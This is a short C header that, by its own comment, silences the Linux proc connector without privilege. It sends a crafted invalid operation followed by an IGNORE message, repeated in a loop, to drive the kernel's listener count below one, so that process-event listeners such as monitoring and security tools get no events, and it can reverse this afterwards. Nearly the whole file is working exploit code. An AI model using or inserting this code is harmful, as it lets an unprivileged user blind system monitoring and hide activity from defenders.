/* SPDX-License-Identifier: Apache-2.0 */
#pragma once

/*
 * Silences the proc connector, without any privilege, and restores it.
 *
 * Since Linux 6.6 every user may talk to the connector, and it counts its listeners by
 * the last message of a socket. Each IGNORE that follows any other message takes one away,
 * whether or not that socket ever listened. An operation that does not exist is such a
 * message. Once the count is below one the kernel sends no events at all, and no listener
 * gets a notice.
 */

#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdbool.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SILENCE_INVALID 0x5a5au

static inline int silence_send(int fd, uint32_t op) {
        char buffer[NLMSG_SPACE(sizeof(struct cn_msg) + sizeof(op))] = {};
        struct nlmsghdr header = {
                .nlmsg_len = NLMSG_LENGTH(sizeof(struct cn_msg) + sizeof(op)),
                .nlmsg_type = NLMSG_DONE,
        };
        struct cn_msg message = {
                .id = { .idx = CN_IDX_PROC, .val = CN_VAL_PROC },
                .len = sizeof(op),
        };

        memcpy(buffer, &header, sizeof(header));
        memcpy(buffer + NLMSG_HDRLEN, &message, sizeof(message));
        memcpy(buffer + NLMSG_HDRLEN + sizeof(message), &op, sizeof(op));
        return send(fd, buffer, header.nlmsg_len, 0) == (ssize_t)header.nlmsg_len ? 0 : -1;
}

static inline int silence_open(void) {
        return socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
}

/* Turns the count of listeners down, or up again, @n times. */
static inline int silence_turn(int fd, int n, bool on) {
        for (int i = 0; i < n; ++i)
                if (silence_send(fd, SILENCE_INVALID) < 0 ||
                    silence_send(fd, on ? PROC_CN_MCAST_IGNORE : PROC_CN_MCAST_LISTEN) < 0)
                        return -1;
        return 0;
}
